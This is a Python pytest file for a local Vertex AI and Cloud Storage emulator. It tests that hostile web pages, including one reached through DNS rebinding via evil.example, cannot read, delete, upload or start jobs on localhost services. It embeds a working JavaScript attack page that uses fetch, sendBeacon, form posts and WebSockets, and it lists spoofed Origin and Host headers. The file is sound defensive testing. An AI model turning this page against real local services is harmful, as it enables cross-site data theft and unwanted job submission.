"""Web pages that try to use local mode behind its user's back, in a real browser and without."""

from __future__ import annotations

import json
import shutil
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path
from urllib.parse import urlsplit

import hostile
import pytest
import requests
from google.cloud import storage

from vertex_local.config import ServerRecord

JOBS = "/v1/projects/vertex-local/locations/us-central1/customJobs"
BROWSER = next(
    filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None
)
LIMIT_SECONDS = 100
Visit = Callable[[str, str, str], dict[str, str]]  # bucket, port of storage, port of the API

# Everything that a page may send without being asked: it reports what it could read.
PAGE = """
const [bucket, storage, api] = %s;
const job = '{"displayName": "evil", "jobSpec": {}}';
function form(action, text) {
  return new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.name = "frame" + Math.random();
    document.documentElement.append(frame);
    const made = document.createElement("form");
    Object.assign(made, {action, method: "POST", enctype: "text/plain", target: frame.name});
    const field = document.createElement("input");
    Object.assign(field, {name: text, value: ""});
    made.append(field);
    document.documentElement.append(made);
    frame.onload = () => done("sent");
    made.submit();
  });
}
async function main() {
  for (const host of ["127.0.0.1", "localhost", location.hostname]) {
    const [s, a] = [storage, api].map((port) => `http://${host}:${port}`);
    const upload = `${s}/upload/storage/v1/b/${bucket}/o?uploadType=media&name=evil`;
    const secret = `${s}/storage/v1/b/${bucket}/o/secret`;
    const jobs = a + "%s", open = {mode: "no-cors", credentials: "include"};
    await attempt(host + " read", async () => (await fetch(secret + "?alt=media")).text());
    await attempt(host + " list", async () => (await fetch(`${s}/storage/v1/b`)).text());
    await attempt(host + " script", () => element("script", `${s}/storage/v1/b?alt=json`));
    await attempt(host + " image", () => element("img", secret + "?alt=media"));
    await attempt(host + " delete", () => fetch(secret, {method: "DELETE"}));
    await attempt(host + " jobs", async () => (await fetch(jobs)).text());
    await attempt(host + " post", async () => {
      await fetch(upload, {...open, method: "POST", body: "evil"});
      await fetch(jobs, {...open, method: "POST", body: job});
      navigator.sendBeacon(upload, "evil");
    });
    await attempt(host + " form", async () => {
      await form(upload, "evil");
      await form(jobs, job);
    });
    await attempt(host + " socket", () => new Promise((done) => {
      const socket = new WebSocket(s.replace("http", "ws") + "/storage/v1/b");
      socket.onopen = () => done("opened");
      socket.onerror = () => done("refused");
    }));
  }
  await fetch("/report", {method: "POST", body: JSON.stringify(report)});
}
main();
"""


@pytest.fixture
def site() -> Iterator[hostile.Site]:
    with hostile.serving() as site:
        yield site


@pytest.fixture
def visit(site: hostile.Site, tmp_path: Path) -> Iterator[Visit]:
    """Open a hostile page in a browser; give what it reports."""
    if BROWSER is None:
        pytest.skip("no Chromium is installed; the requests are also sent without a browser")
    browsers = []

    def visit(bucket: str, storage_place: str, api_port: str) -> dict[str, str]:
        site.show(PAGE % (json.dumps([bucket, storage_place, api_port]), JOBS))
        # The name of a foreign host that was made to point here, as in an attack by DNS rebinding.
        address = f"http://evil.example:{site.port}/"
        options = ["--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run"]
        options += ["--disable-dev-shm-usage", f"--user-data-dir={tmp_path}"]
        options += ["--host-resolver-rules=MAP evil.example 127.0.0.1", "--no-proxy-server"]
        browsers.append(
            subprocess.Popen(
                [str(BROWSER), *options, address],
                stdout=subprocess.DEVNULL,
                stderr=subprocess.DEVNULL,
            )
        )
        while (got := site.received.get(timeout=LIMIT_SECONDS))[0] != "/report":
            sent.append(got)
        return json.loads(got[1])

    sent: list[tuple[str, str]] = []
    visit.sent = sent  # type: ignore[attr-defined]
    yield visit
    for browser in browsers:
        browser.kill()
        browser.wait()


def test_no_page_in_a_browser_reads_or_changes_anything(
    server: ServerRecord,
    bucket: storage.Bucket,
    visit: Visit,
) -> None:
    bucket.blob("secret").upload_from_string("secret")
    token = {"Authorization": f"Bearer {server.token}"}
    before = requests.get(server.api_url + JOBS, headers=token, timeout=30).json()
    storage_place = server.storage_url.rpartition(":")[2]  # even a page that knows the secret
    report = visit(bucket.name, storage_place, str(urlsplit(server.api_url).port))
    assert len(report) == 3 * 9
    blind = {"undefined"}  # what was sent without a look at the answer
    assert {text for name, text in report.items()} <= {"refused", *blind}, report
    assert [blob.name for blob in bucket.list_blobs()] == ["secret"]
    assert requests.get(server.api_url + JOBS, headers=token, timeout=30).json() == before


def test_the_same_page_breaks_into_a_server_that_does_not_look(
    site: hostile.Site, visit: Visit
) -> None:
    report = visit("any", str(site.port), str(site.port))
    for host in ("127.0.0.1", "localhost", "evil.example"):
        assert report[f"{host} read"] == report[f"{host} jobs"] == "not secret"
        assert report[f"{host} script"] == "loaded"
    sent = [path.partition("?")[0] for path, _ in visit.sent]  # type: ignore[attr-defined]
    assert sent.count("/upload/storage/v1/b/any/o") >= 3 * 2 and sent.count(JOBS) == 3 * 2


PAGES = [
    {"Origin": "https://example.org"},
    {"Origin": "null"},  # a page from a file, or in a sandbox
    {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors"},
    {"Sec-Fetch-Site": "same-site"},  # a page of another port of this machine
    {"Host": "evil.example"},
    {"Host": "127.0.0.1.evil.example"},
    {"Referer": "http://evil.example/"},
]


@pytest.mark.parametrize("headers", PAGES, ids=str)
def test_no_page_starts_a_job_even_with_the_token(
    server: ServerRecord, headers: dict[str, str]
) -> None:
    token = {"Authorization": f"Bearer {server.token}"}
    before = requests.get(server.api_url + JOBS, headers=token, timeout=30).json()
    for method, path in (("POST", JOBS), ("POST", f"{JOBS}/1:cancel"), ("DELETE", f"{JOBS}/1")):
        answer = requests.request(
            method, server.api_url + path, data="{}", headers={**token, **headers}, timeout=30
        )
        assert answer.status_code == 403, answer.text
    assert requests.get(server.api_url + JOBS, headers=token, timeout=30).json() == before
